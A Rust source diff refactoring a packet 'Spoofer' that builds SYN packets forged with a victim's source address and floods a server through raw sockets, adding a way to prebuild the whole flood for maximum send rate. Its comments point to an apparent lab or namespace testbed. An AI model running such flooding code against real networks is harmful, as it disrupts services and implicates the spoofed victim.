@@ -322,21 +322,65 @@ pub struct Spoofer {
 }
 
 impl Spoofer {
+    /// The `i`-th SYN of the flood: ports in turn, sequence numbers from a
+    /// xorshift generator (they look random, nobody chose them).
+    fn packet(&self, i: u64, seq: &mut u32, ports: &[u16]) -> Vec<u8> {
+        *seq ^= *seq << 13;
+        *seq ^= *seq >> 17;
+        *seq ^= *seq << 5;
+        let sport = ports[(i % ports.len() as u64) as usize];
+        linux_like_syn(
+            self.victim,
+            self.server,
+            sport,
+            self.dport,
+            *seq,
+            self.mp_capable,
+        )
+    }
+
+    /// Every SYN of the flood, built in advance: a burst sent from these
+    /// goes out at the speed of the send calls alone.
+    pub fn packets(&self) -> Vec<Vec<u8>> {
+        let ports: Vec<u16> = self.ports.clone().collect();
+        if ports.is_empty() {
+            return Vec::new();
+        }
+        let mut seq = 0x9e37_79b9u32;
+        (0..self.max_packets)
+            .map(|i| self.packet(i, &mut seq, &ports))
+            .collect()
+    }
+
     /// Sends from the calling thread (in the attacker's namespace); returns
     /// the number of SYNs sent.
     pub fn run(&self, stop: &AtomicBool) -> io::Result<u64> {
+        let ports: Vec<u16> = self.ports.clone().collect();
+        let mut seq = 0x9e37_79b9u32;
+        self.send_paced(stop, |i| self.packet(i, &mut seq, &ports))
+    }
+
+    /// Sends these (built by [`Spoofer::packets`]) as fast as the pace
+    /// allows.
+    pub fn send(&self, packets: &[Vec<u8>], stop: &AtomicBool) -> io::Result<u64> {
+        self.send_paced(stop, |i| packets[i as usize].clone())
+    }
+
+    fn send_paced(
+        &self,
+        stop: &AtomicBool,
+        mut next: impl FnMut(u64) -> Vec<u8>,
+    ) -> io::Result<u64> {
         let sender = RawSender::open(&SenderOptions {
             ipv4: self.victim.is_ipv4(),
             ipv6: self.victim.is_ipv6(),
             ..SenderOptions::default()
         })?;
-        let ports: Vec<u16> = self.ports.clone().collect();
-        if ports.is_empty() {
+        if self.ports.is_empty() {
             return Ok(0);
         }
         let started = Instant::now();
         let end = started + self.duration;
-        let mut seq = 0x9e37_79b9u32;
         let mut sent = 0u64;
         while sent < self.max_packets && !stop.load(Ordering::Relaxed) {
             let now = Instant::now();
@@ -349,21 +393,8 @@ impl Spoofer {
                 std::thread::sleep((due - now).min(Duration::from_millis(20)));
                 continue;
             }
-            // xorshift: sequence numbers that look random, cheaply.
-            seq ^= seq << 13;
-            seq ^= seq >> 17;
-            seq ^= seq << 5;
-            let sport = ports[(sent % ports.len() as u64) as usize];
-            let pkt = linux_like_syn(
-                self.victim,
-                self.server,
-                sport,
-                self.dport,
-                seq,
-                self.mp_capable,
-            );
             // A full socket buffer drops one SYN; the flood goes on.
-            let _ = sender.send(&pkt);
+            let _ = sender.send(&next(sent));
             sent += 1;
         }
         Ok(sent)
